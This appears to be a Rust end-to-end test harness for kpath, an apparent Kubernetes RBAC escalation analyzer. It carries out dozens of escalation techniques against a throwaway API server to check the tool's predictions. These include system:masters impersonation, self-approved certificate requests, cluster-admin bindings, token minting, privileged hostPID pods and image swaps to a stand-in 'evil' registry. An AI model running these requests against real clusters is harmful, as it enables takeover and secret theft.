//! Techniques carried out against the server with the attacker's own credential, from the firing fixture and from the
//! near miss of `testdata/techniques`.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::time::Duration;

use http::Method;
use kpath::model::Version;
use serde_json::{Value, json};

use super::caller::{Answer, Caller, base64, paths};
use super::objects::{parse, put};

/// What stands in every Secret of a fixture; who reads it has read the Secret.
const CANARY: &str = "canary-in-a-secret";
const API: &str = "rbac.authorization.k8s.io";
const PROD: &str = "/api/v1/namespaces/prod";
const RBAC: &str = "/apis/rbac.authorization.k8s.io/v1";

/// What an attempt came to.
struct Attempt {
    /// Whether the attacker got what the technique promises.
    gained: bool,
    /// The deciding request and its code.
    request: String,
}

/// Techniques that are shown, in the order of the table.
pub const SHOWN: &[&str] = &[
    "rbac-grant",
    "identity-groups",
    "entry-anonymous-binding",
    "entry-authenticated-binding",
    "secret-get",
    "secret-list",
    "secret-watch",
    "secret-patch",
    "secret-delete-dryrun",
    "secret-deletecollection-dryrun",
    "secret-sa-token",
    "secret-mint-sa-token",
    "secret-mint-sa-token-mount",
    "sa-tokenrequest",
    "configmap-read-creds",
    "imp-user",
    "imp-group",
    "imp-serviceaccount",
    "imp-core-wildcard",
    "csr-apiserver-client",
    "csr-to-cluster-admin",
    "bind-crb",
    "bind-rb",
    "bind-rb-role",
    "binding-patch-subjects",
    "binding-hold-all",
    "escalate-role",
    "escalate-clusterrole",
    "escalate-create-bind",
    "escalate-create-aggregate",
    "ns-wildcard",
    "ns-admin-expands",
    "ns-admin-kube-system",
    "ns-label-psa",
    "dangling-sa-create",
    "rbac-named-create",
    "create-pod",
    "create-deployment",
    "create-daemonset",
    "create-statefulset",
    "create-replicaset",
    "create-replicationcontroller",
    "create-job",
    "create-cronjob",
    "patch-deployment",
    "patch-daemonset",
    "patch-statefulset",
    "patch-replicaset",
    "patch-replicationcontroller",
    "patch-cronjob",
    "patch-pod-image",
    "workload-exec",
    "workload-any-sa",
    "workload-any-secret",
    "workload-nodename",
    "workload-privileged-node",
    "ephemeral-exec",
    "ephemeral-token",
    "ephemeral-node",
    "pods-exec-create",
    "pods-exec-get",
    "pods-attach",
    "pods-attach-get",
    "kubelet-api-exec",
    "nodes-proxy-exec",
    "node-id-secrets",
    "node-id-sa-token",
];

struct Scene<'a> {
    admin: &'a Caller,
    /// The attacker: the account `app` of the fixture.
    me: Caller,
}

impl Scene<'_> {
    fn answered(request: &str, answer: &Answer, gained: bool) -> Attempt {
        Attempt { gained, request: format!("{request} → {}", answer.code) }
    }

    /// GET of a path that holds the canary.
    async fn reads(&self, who: &Caller, path: &str) -> Attempt {
        let answer = who.get(path).await;
        Self::answered(&format!("GET {path}"), &answer, answer.ok() && answer.text.contains(&base64(CANARY.as_bytes())))
    }

    /// Whether a caller now reads every Secret, which here stands for cluster-admin.
    async fn admin_like(&self, who: &Caller, how: &str) -> Attempt {
        let path = "/api/v1/secrets?limit=1";
        let mut answer = who.get(path).await;
        for _ in 0..30 {
            if answer.ok() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
            answer = who.get(path).await;
        }
        Self::answered(&format!("{how}, then GET {path}"), &answer, answer.ok())
    }

    /// A request that must pass, and what is tried after it.
    fn stopped(how: &str, answer: &Answer) -> Option<Attempt> {
        (!answer.ok()).then(|| Self::answered(how, answer, false))
    }

    async fn post(&self, path: &str, body: &Value) -> Attempt {
        let answer = self.me.post(path, body).await;
        Self::answered(&format!("POST {path}"), &answer, answer.ok())
    }

    async fn identity(&self, token: &str, how: &str, wanted: &str) -> Attempt {
        let name = self.me.token(token).username().await;
        Attempt { gained: name == wanted, request: format!("{how}, then SelfSubjectReview → {name}") }
    }

    /// A client certificate for a user and a group, by CertificateSigningRequest; the caller approves it as well.
    async fn certificate(&self, who: &Caller, user: &str, group: &str, signer: &str) -> Result<Caller, Attempt> {
        let key = rcgen::KeyPair::generate().unwrap();
        let mut params = rcgen::CertificateParams::default();
        params.distinguished_name = rcgen::DistinguishedName::new();
        params.distinguished_name.push(rcgen::DnType::CommonName, user);
        params.distinguished_name.push(rcgen::DnType::OrganizationName, group);
        let request = params.serialize_request(&key).unwrap().pem().unwrap();
        let base = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
        let name = format!("e2e-{}", user.replace(':', "-"));
        let _ = self.admin.delete(&format!("{base}/{name}"), &Value::Null).await;
        let body = json!({
            "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": name},
            "spec": {"request": base64(request.as_bytes()), "signerName": signer,
                "usages": ["client auth", "digital signature"]},
        });
        let answer = who.post(base, &body).await;
        if let Some(end) = Self::stopped(&format!("POST {base} (O={group})"), &answer) {
            return Err(end);
        }
        let mut approved = answer.json();
        approved["status"]["conditions"] =
            json!([{"type": "Approved", "status": "True", "reason": "e2e", "message": "e2e"}]);
        let answer = who.put(&format!("{base}/{name}/approval"), &approved).await;
        if let Some(end) = Self::stopped(&format!("PUT {base}/{name}/approval"), &answer) {
            return Err(end);
        }
        for _ in 0..100 {
            let now = self.admin.get(&format!("{base}/{name}")).await.json();
            if let Some(cert) = now["status"]["certificate"].as_str() {
                let pem: k8s_openapi::ByteString = serde_json::from_value(json!(cert)).unwrap();
                return Ok(self.me.certificate(&String::from_utf8(pem.0).unwrap(), &key.serialize_pem()));
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        Err(Attempt { gained: false, request: "the signer did not issue".into() })
    }

    #[allow(clippy::too_many_lines, reason = "one arm for each technique")]
    async fn act(&self, technique: &str) -> Attempt {
        let me = &self.me;
        let binding = |kind: &str, role: &str, name: &str| {
            json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind, "metadata": {"name": "e2e-step"},
                "roleRef": {"apiGroup": API, "kind": role, "name": name},
                "subjects": [{"kind": "ServiceAccount", "name": "app", "namespace": "prod"}]})
        };
        let everything = json!([{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]);
        match technique {
            "rbac-grant" => self.admin_like(me, "own token").await,
            "identity-groups" | "entry-authenticated-binding" => {
                self.reads(me, &format!("{PROD}/secrets/e2e-canary")).await
            }
            "entry-anonymous-binding" => self.reads(&me.anonymous(), &format!("{PROD}/secrets/db")).await,
            "secret-get" => self.reads(me, &format!("{PROD}/secrets/db")).await,
            "secret-list" => self.reads(me, &format!("{PROD}/secrets")).await,
            "secret-watch" => self.reads(me, &format!("{PROD}/secrets?watch=1&timeoutSeconds=1")).await,
            "secret-patch" => {
                let path = format!("{PROD}/secrets/db?dryRun=All");
                let answer = me.patch(&path, &json!({})).await;
                let gained = answer.text.contains(&base64(CANARY.as_bytes()));
                Self::answered(&format!("PATCH {path}"), &answer, gained)
            }
            "secret-delete-dryrun" | "secret-deletecollection-dryrun" => {
                let path = if technique == "secret-delete-dryrun" {
                    format!("{PROD}/secrets/db")
                } else {
                    format!("{PROD}/secrets")
                };
                let path = format!("{path}?dryRun=All&propagationPolicy=Foreground");
                let answer = me.delete(&path, &Value::Null).await;
                let gained = answer.text.contains(&base64(CANARY.as_bytes()));
                Self::answered(&format!("DELETE {path}"), &answer, gained)
            }
            "secret-sa-token" | "secret-mint-sa-token" => {
                let (name, of) =
                    if technique == "secret-sa-token" { ("robot-token", "robot") } else { ("e2e-mint", "victim") };
                if technique == "secret-mint-sa-token" {
                    let answer = me.post(&format!("{PROD}/secrets"), &token_secret(name, of)).await;
                    if let Some(end) = Self::stopped(&format!("POST {PROD}/secrets"), &answer) {
                        return end;
                    }
                }
                let path = format!("{PROD}/secrets/{name}");
                let mut answer = me.get(&path).await;
                for _ in 0..40 {
                    if let Some(token) = answer.json()["data"]["token"].as_str() {
                        let token: k8s_openapi::ByteString = serde_json::from_value(json!(token)).unwrap();
                        let token = String::from_utf8(token.0).unwrap();
                        return self
                            .identity(&token, &format!("GET {path}"), &format!("system:serviceaccount:prod:{of}"))
                            .await;
                    }
                    tokio::time::sleep(Duration::from_millis(50)).await;
                    answer = me.get(&path).await;
                }
                Self::answered(&format!("GET {path}"), &answer, false)
            }
            "secret-mint-sa-token-mount" => {
                let answer = me.post(&format!("{PROD}/secrets"), &token_secret("e2e-mint", "default")).await;
                if let Some(end) = Self::stopped(&format!("POST {PROD}/secrets"), &answer) {
                    return end;
                }
                self.post(&format!("{PROD}/pods"), &mounting("e2e-mint")).await
            }
            "sa-tokenrequest" => self.minted(me, "prod", "victim", &json!({})).await,
            "configmap-read-creds" => {
                let path = format!("{PROD}/configmaps/kube-root-ca.crt");
                let answer = me.get(&path).await;
                Self::answered(&format!("GET {path}"), &answer, answer.text.contains("BEGIN CERTIFICATE"))
            }
            "imp-user" => self.admin_like(&me.headers(&[("Impersonate-User", "alice")]), "as alice").await,
            "imp-group" => {
                let who = me.headers(&[("Impersonate-User", "nobody"), ("Impersonate-Group", "ops")]);
                self.admin_like(&who, "as a member of ops").await
            }
            "imp-serviceaccount" => {
                let wanted = "system:serviceaccount:prod:victim";
                let name = me.headers(&[("Impersonate-User", wanted)]).username().await;
                Attempt { gained: name == wanted, request: format!("SelfSubjectReview as it → {name}") }
            }
            "imp-core-wildcard" => {
                let who = me.headers(&[("Impersonate-User", "nobody"), ("Impersonate-Group", "system:masters")]);
                self.admin_like(&who, "as a member of system:masters").await
            }
            "csr-apiserver-client" | "csr-to-cluster-admin" => {
                // system:masters is what the near miss leaves; the server's admission keeps it out.
                let mut last = Attempt { gained: false, request: String::new() };
                for group in ["ops", "system:masters"] {
                    last = match self.certificate(me, "mallory", group, "kubernetes.io/kube-apiserver-client").await {
                        Ok(who) => self.admin_like(&who, &format!("certificate with O={group}")).await,
                        Err(end) => end,
                    };
                    if last.gained {
                        break;
                    }
                }
                last
            }
            "bind-crb" => {
                let path = format!("{RBAC}/clusterrolebindings");
                let answer = me.post(&path, &binding("ClusterRoleBinding", "ClusterRole", "cluster-admin")).await;
                match Self::stopped(&format!("POST {path}"), &answer) {
                    Some(end) => end,
                    None => self.admin_like(me, &format!("POST {path}")).await,
                }
            }
            "bind-rb" | "bind-rb-role" | "ns-wildcard" => {
                let path = format!("{RBAC}/namespaces/prod/rolebindings");
                let (kind, role) =
                    if technique == "bind-rb-role" { ("Role", "target") } else { ("ClusterRole", "admin") };
                let answer = me.post(&path, &binding("RoleBinding", kind, role)).await;
                match Self::stopped(&format!("POST {path}"), &answer) {
                    Some(end) => end,
                    None if kind == "Role" => {
                        self.soon(me, &format!("POST {path}"), &format!("{PROD}/secrets/db")).await
                    }
                    None => self.soon(me, &format!("POST {path}"), &format!("{PROD}/secrets")).await,
                }
            }
            "binding-patch-subjects" => {
                let path = format!("{RBAC}/namespaces/prod/rolebindings/target");
                let body = json!({"subjects": [{"kind": "ServiceAccount", "name": "app", "namespace": "prod"}]});
                let answer = me.patch(&path, &body).await;
                match Self::stopped(&format!("PATCH {path}"), &answer) {
                    Some(end) => end,
                    None => self.soon(me, &format!("PATCH {path}"), &format!("{PROD}/secrets/db")).await,
                }
            }
            "binding-hold-all" => {
                let mut b = binding("RoleBinding", "Role", "reader");
                b["subjects"] = json!([{"kind": "User", "apiGroup": API, "name": "bob"}]);
                self.post(&format!("{RBAC}/namespaces/prod/rolebindings"), &b).await
            }
            "escalate-role" | "escalate-clusterrole" => {
                let path = if technique == "escalate-role" {
                    format!("{RBAC}/namespaces/prod/roles/r")
                } else {
                    format!("{RBAC}/clusterroles/cr")
                };
                let answer = me.patch(&path, &json!({"rules": everything})).await;
                match Self::stopped(&format!("PATCH {path}"), &answer) {
                    Some(end) => end,
                    None if technique == "escalate-role" => {
                        self.soon(me, &format!("PATCH {path}"), &format!("{PROD}/secrets")).await
                    }
                    None => self.admin_like(me, &format!("PATCH {path}")).await,
                }
            }
            "escalate-create-bind" | "escalate-create-aggregate" => {
                let path = format!("{RBAC}/clusterroles");
                let role = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
                    "metadata": {"name": "e2e-step", "labels": {"a": "b"}}, "rules": everything});
                let answer = me.post(&path, &role).await;
                if let Some(end) = Self::stopped(&format!("POST {path}"), &answer) {
                    return end;
                }
                if technique == "escalate-create-bind" {
                    let path = format!("{RBAC}/clusterrolebindings");
                    let answer = me.post(&path, &binding("ClusterRoleBinding", "ClusterRole", "e2e-step")).await;
                    if let Some(end) = Self::stopped(&format!("POST {path}"), &answer) {
                        return end;
                    }
                }
                self.admin_like(me, &format!("POST {path}")).await
            }
            "ns-admin-expands" => self.post(&format!("{PROD}/pods"), &pod("e2e-step", &json!({}))).await,
            "ns-admin-kube-system" => {
                let account = "clusterrole-aggregation-controller";
                let path = format!("/api/v1/namespaces/kube-system/serviceaccounts/{account}/token");
                let answer =
                    me.post(&path, &json!({"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest"})).await;
                let Some(token) = answer.json()["status"]["token"].as_str().map(str::to_owned) else {
                    return Self::answered(&format!("POST {path}"), &answer, false);
                };
                let controller = me.token(&token);
                let role = format!("{RBAC}/clusterroles/system:controller:{account}");
                let answer = controller.patch(&role, &json!({"rules": everything})).await;
                match Self::stopped(&format!("PATCH {role}"), &answer) {
                    Some(end) => end,
                    None => self.admin_like(&controller, &format!("PATCH {role}")).await,
                }
            }
            "ns-label-psa" => {
                let body = json!({"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}});
                let answer = me.patch(PROD, &body).await;
                if let Some(end) = Self::stopped(&format!("PATCH {PROD}"), &answer) {
                    return end;
                }
                self.post(&format!("{PROD}/pods"), &privileged("e2e-step")).await
            }
            "dangling-sa-create" => {
                let account = json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "ghost"}});
                let answer = me.post(&format!("{PROD}/serviceaccounts"), &account).await;
                if let Some(end) = Self::stopped(&format!("POST {PROD}/serviceaccounts"), &answer) {
                    return end;
                }
                self.post(&format!("{PROD}/pods"), &pod("e2e-step", &json!({"serviceAccountName": "ghost"}))).await
            }
            "rbac-named-create" => {
                let path = "/apis/apps/v1/namespaces/prod/deployments/x?fieldManager=e2e";
                let mut body = workload("Deployment");
                body["metadata"]["name"] = json!("x");
                let answer = me.send(Method::PATCH, path, "application/apply-patch+yaml", &body).await;
                Self::answered(&format!("PATCH {path} (apply)"), &answer, answer.ok())
            }
            "create-pod" | "workload-exec" => self.post(&format!("{PROD}/pods"), &pod("e2e-step", &json!({}))).await,
            "workload-any-sa" => {
                self.post(&format!("{PROD}/pods"), &pod("e2e-step", &json!({"serviceAccountName": "victim"}))).await
            }
            "workload-any-secret" => self.post(&format!("{PROD}/pods"), &mounting("db")).await,
            "workload-nodename" => {
                let mut p = privileged("e2e-step");
                p["spec"]["nodeName"] = json!("cp");
                p["spec"]["tolerations"] = json!([{"operator": "Exists"}]);
                self.post(&format!("{PROD}/pods"), &p).await
            }
            "workload-privileged-node" => self.post(&format!("{PROD}/pods"), &privileged("e2e-step")).await,
            "ephemeral-exec" | "ephemeral-token" | "ephemeral-node" => {
                let path = format!("{PROD}/pods/victim/ephemeralcontainers");
                let mut container = json!({"name": "e2e", "image": "a:1", "targetContainerName": "c"});
                if technique == "ephemeral-node" {
                    container["securityContext"] = json!({"privileged": true});
                }
                let body = json!({"spec": {"ephemeralContainers": [container]}});
                let answer = me.send(Method::PATCH, &path, "application/strategic-merge-patch+json", &body).await;
                Self::answered(&format!("PATCH {path}"), &answer, answer.ok())
            }
            "patch-pod-image" => {
                let path = format!("{PROD}/pods/victim");
                let body = json!({"spec": {"containers": [{"name": "c", "image": "registry.example.com/evil:1"}]}});
                let answer = me.send(Method::PATCH, &path, "application/strategic-merge-patch+json", &body).await;
                Self::answered(&format!("PATCH {path}"), &answer, answer.ok())
            }
            // No kubelet is there to run anything: what is shown is that the request is authorized.
            "pods-exec-create" | "pods-attach" => {
                let what = if technique == "pods-attach" { "attach" } else { "exec" };
                let path = format!("{PROD}/pods/victim/{what}?command=id&container=c&stdout=1");
                let answer = me.post(&path, &Value::Null).await;
                Self::answered(&format!("POST {path}"), &answer, answer.authorized())
            }
            "pods-exec-get" | "pods-attach-get" => {
                let what = if technique == "pods-attach-get" { "attach" } else { "exec" };
                let path = format!("{PROD}/pods/victim/{what}?command=id&container=c&stdout=1");
                let who = me.headers(&[
                    ("Connection", "Upgrade"),
                    ("Upgrade", "websocket"),
                    ("Sec-WebSocket-Version", "13"),
                    ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
                    ("Sec-WebSocket-Protocol", "v5.channel.k8s.io"),
                ]);
                let answer = who.get(&path).await;
                Self::answered(&format!("GET {path} (websocket)"), &answer, answer.authorized())
            }
            "kubelet-api-exec" | "nodes-proxy-exec" => {
                let path = "/api/v1/nodes/w1/proxy/exec/prod/victim/c?command=id&output=1";
                let answer = me.get(path).await;
                Self::answered(&format!("GET {path}"), &answer, answer.authorized())
            }
            "node-id-secrets" | "node-id-sa-token" => {
                let node = "system:node:w1";
                let signer = "kubernetes.io/kube-apiserver-client-kubelet";
                match self.certificate(self.admin, node, "system:nodes", signer).await {
                    Ok(kubelet) if technique == "node-id-secrets" => {
                        self.reads(&kubelet, &format!("{PROD}/secrets/pull")).await
                    }
                    Ok(kubelet) => {
                        let victim = self.admin.get(&format!("{PROD}/pods/victim")).await.json();
                        let bound = json!({"boundObjectRef": {"apiVersion": "v1", "kind": "Pod", "name": "victim",
                            "uid": victim["metadata"]["uid"]}});
                        self.minted(&kubelet, "prod", "victim", &bound).await
                    }
                    Err(end) => end,
                }
            }
            _ => match technique.split_once('-') {
                Some(("create", kind)) => {
                    let body = workload(&camel(kind));
                    let (collection, _) = paths(&body);
                    self.post(&collection, &body).await
                }
                Some(("patch", kind)) => {
                    let mut body = workload(&camel(kind));
                    body["metadata"]["name"] = json!("other");
                    let (_, path) = paths(&body);
                    let template =
                        json!({"spec": {"containers": [{"name": "c", "image": "registry.example.com/evil:1"}]}});
                    let patch = match kind {
                        "cronjob" => json!({"spec": {"jobTemplate": {"spec": {"template": template}}}}),
                        _ => json!({"spec": {"template": template}}),
                    };
                    let answer = me.send(Method::PATCH, &path, "application/strategic-merge-patch+json", &patch).await;
                    Self::answered(&format!("PATCH {path}"), &answer, answer.ok())
                }
                _ => panic!("{technique} has no action"),
            },
        }
    }

    /// GET until a grant has come through the informers of the authorizer, or a time has passed.
    async fn soon(&self, who: &Caller, how: &str, path: &str) -> Attempt {
        let mut last = self.reads(who, path).await;
        for _ in 0..30 {
            if last.gained {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
            last = self.reads(who, path).await;
        }
        Attempt { gained: last.gained, request: format!("{how}, then {}", last.request) }
    }

    async fn minted(&self, who: &Caller, namespace: &str, name: &str, spec: &Value) -> Attempt {
        let path = format!("/api/v1/namespaces/{namespace}/serviceaccounts/{name}/token");
        let body = json!({"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": spec});
        let answer = who.post(&path, &body).await;
        match answer.json()["status"]["token"].as_str() {
            Some(token) => {
                let wanted = format!("system:serviceaccount:{namespace}:{name}");
                self.identity(token, &format!("POST {path}"), &wanted).await
            }
            None => Self::answered(&format!("POST {path}"), &answer, false),
        }
    }
}

fn token_secret(name: &str, of: &str) -> Value {
    json!({"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
        "metadata": {"name": name, "annotations": {"kubernetes.io/service-account.name": of}}})
}

fn pod(name: &str, spec: &Value) -> Value {
    let mut p = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": "prod"},
        "spec": {"containers": [{"name": "c", "image": "a:1"}]}});
    for (k, v) in spec.as_object().unwrap() {
        p["spec"][k] = v.clone();
    }
    p
}

fn mounting(secret: &str) -> Value {
    let mut p = pod("e2e-step", &json!({"volumes": [{"name": "s", "secret": {"secretName": secret}}]}));
    p["spec"]["containers"][0]["volumeMounts"] = json!([{"name": "s", "mountPath": "/s"}]);
    p
}

fn privileged(name: &str) -> Value {
    let mut p = pod(name, &json!({"hostPID": true}));
    p["spec"]["containers"][0]["securityContext"] = json!({"privileged": true});
    p
}

fn camel(kind: &str) -> String {
    match kind {
        "deployment" => "Deployment",
        "daemonset" => "DaemonSet",
        "statefulset" => "StatefulSet",
        "replicaset" => "ReplicaSet",
        "replicationcontroller" => "ReplicationController",
        "job" => "Job",
        "cronjob" => "CronJob",
        other => panic!("{other}"),
    }
    .to_owned()
}

/// A workload of a kind with a plain template.
fn workload(kind: &str) -> Value {
    let mut template =
        json!({"metadata": {"labels": {"app": "e2e"}}, "spec": {"containers": [{"name": "c", "image": "a:1"}]}});
    let labels = json!({"app": "e2e"});
    let (version, spec) = match kind {
        "ReplicationController" => ("v1", json!({"selector": labels, "template": template})),
        "Job" | "CronJob" => {
            template["spec"]["restartPolicy"] = json!("Never");
            let spec = json!({"template": template});
            let cron = json!({"schedule": "* * * * *", "jobTemplate": {"spec": spec}});
            ("batch/v1", if kind == "Job" { spec } else { cron })
        }
        _ => ("apps/v1", json!({"selector": {"matchLabels": labels}, "template": template, "serviceName": "e2e"})),
    };
    let mut w = json!({"apiVersion": version, "kind": kind, "spec": spec, "metadata": {"name": "e2e-step", "namespace": "prod"}});
    if kind != "StatefulSet"
        && let Some(spec) = w["spec"].as_object_mut()
    {
        spec.remove("serviceName");
    }
    w
}

/// Kinds that an attempt may leave behind in the namespaces of the fixtures, or beside them.
const LEFT: [&str; 16] = [
    "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/e2e-step",
    "/apis/rbac.authorization.k8s.io/v1/clusterroles/e2e-step",
    "/apis/rbac.authorization.k8s.io/v1/namespaces/prod/rolebindings/e2e-step",
    "/api/v1/namespaces/prod/pods/e2e-step",
    "/api/v1/namespaces/prod/secrets/e2e-mint",
    "/api/v1/namespaces/prod/serviceaccounts/ghost",
    "/api/v1/namespaces/prod/replicationcontrollers/e2e-step",
    "/apis/apps/v1/namespaces/prod/deployments/e2e-step",
    "/apis/apps/v1/namespaces/prod/deployments/x",
    "/apis/apps/v1/namespaces/prod/daemonsets/e2e-step",
    "/apis/apps/v1/namespaces/prod/statefulsets/e2e-step",
    "/apis/apps/v1/namespaces/prod/replicasets/e2e-step",
    "/apis/batch/v1/namespaces/prod/jobs/e2e-step",
    "/apis/batch/v1/namespaces/prod/cronjobs/e2e-step",
    "/apis/certificates.k8s.io/v1/certificatesigningrequests/e2e-mallory",
    "/apis/certificates.k8s.io/v1/certificatesigningrequests/e2e-system-node-w1",
];

/// Loads a fixture, lets the attacker try, and puts everything back.
async fn attempt(admin: &Caller, technique: &str, text: &str) -> Attempt {
    let now = json!({"gracePeriodSeconds": 0, "propagationPolicy": "Background"});
    let mut before: BTreeMap<String, Value> = BTreeMap::new();
    let objects = parse(text);
    for object in &objects {
        let mut object = object.clone();
        let (_, path) = paths(&object);
        let there = admin.get(&path).await;
        if there.ok() {
            before.insert(path.clone(), there.json());
        }
        if object["kind"] == "Secret" && object["type"] != "kubernetes.io/service-account-token" {
            object["stringData"] = json!({"password": CANARY});
        }
        // A pod may be older than the label that would refuse it.
        if object["kind"] == "Namespace" {
            object["metadata"]["labels"] = json!({});
        }
        let answer = put(admin, &object).await;
        assert!(answer.ok(), "{technique}: {object}: {answer:?}");
    }
    for object in objects.iter().filter(|o| o["kind"] == "Namespace") {
        let answer = put(admin, object).await;
        assert!(answer.ok(), "{technique}: {object}: {answer:?}");
    }
    let canary = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "e2e-canary", "namespace": "prod"},
        "stringData": {"password": CANARY}});
    assert!(put(admin, &canary).await.ok());
    // Grants reach the authorizer through a watch.
    tokio::time::sleep(Duration::from_millis(250)).await;
    let me = admin.token(&admin.account_token("prod", "app").await);
    let result = Scene { admin, me }.act(technique).await;
    for path in LEFT {
        let _ = admin.delete(path, &now).await;
    }
    for object in objects.iter().rev() {
        let (_, path) = paths(object);
        match before.get(&path) {
            Some(old) => {
                let mut old = old.clone();
                old["metadata"]["resourceVersion"] =
                    admin.get(&path).await.json()["metadata"]["resourceVersion"].clone();
                let _ = admin.put(&path, &old).await;
            }
            // Namespaces stay, so that no fixture waits for the end of one; the next one sets their labels.
            None if object["kind"] == "Namespace" => {}
            None => {
                let _ = admin.delete(&path, &now).await;
            }
        }
    }
    result
}

/// The result of all attempts: the table, how many were made, and what went against kpath.
pub struct Shown {
    /// Markdown.
    pub table: String,
    /// Attempts.
    pub count: usize,
    /// Disagreements.
    pub wrong: Vec<String>,
}

/// Carries every shown technique out on both fixtures.
pub async fn all(admin: &Caller, server: Version, only: Option<&str>) -> Shown {
    let mut shown = Shown { table: String::new(), count: 0, wrong: Vec::new() };
    for technique in SHOWN.iter().filter(|t| only.is_none_or(|o| **t == o)) {
        let mut row = format!("| {technique} ");
        for (file, expected) in [("fires", true), ("near-miss", false)] {
            let path = format!("{}/testdata/techniques/{technique}/{file}.yaml", env!("CARGO_MANIFEST_DIR"));
            let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
            let version = text.lines().find_map(|l| l.strip_prefix("# version: ")).and_then(Version::parse);
            if version.is_some_and(|v| v.minor != server.minor) {
                let _ = write!(
                    row,
                    "| needs a server {} ",
                    version.map(|v| v.to_string().trim_end_matches(".0").to_owned()).unwrap_or_default()
                );
                continue;
            }
            let result = attempt(admin, technique, &text).await;
            shown.count += 1;
            if result.gained != expected {
                let what = if result.gained { "succeeded" } else { "was refused" };
                shown.wrong.push(format!("{technique}, {file}: the attempt {what}: {}", result.request));
            }
            let _ = write!(row, "| {}: `{}` ", if result.gained { "succeeds" } else { "refused" }, result.request);
        }
        shown.table.push_str(&row);
        shown.table.push_str("|\n");
    }
    shown
}

/// Compares the table with the committed one, or writes it with `KPATH_WRITE=1`.
pub fn write(shown: &Shown, server: Version) -> Result<(), String> {
    let text = format!(
        "# Techniques shown on a server\n\nWritten by `scripts/e2e`: each technique is carried out against a throw-away \
         kube-apiserver {server} with the attacker's own credential, from the fixture on which it must work and from the \
         nearest configuration on which it must not (`testdata/techniques`). Beside the result stand the deciding \
         request and its answer. No kubelet is there: exec and attach are shown to be authorized, not to run.\n\n\
         | technique | fires | near miss |\n|---|---|---|\n{}",
        shown.table
    );
    println!("{}", shown.table);
    let path = format!("{}/docs/shown-on-a-server.md", env!("CARGO_MANIFEST_DIR"));
    if std::env::var_os("KPATH_WRITE").is_some() {
        return std::fs::write(&path, text).map_err(|e| format!("{path}: {e}"));
    }
    let committed = std::fs::read_to_string(&path).map_err(|e| format!("{path}: {e}"))?;
    if committed.contains(&format!("kube-apiserver {server} ")) && committed != text {
        return Err(format!("{path} differs from what the server showed; write it with KPATH_WRITE=1"));
    }
    Ok(())
}
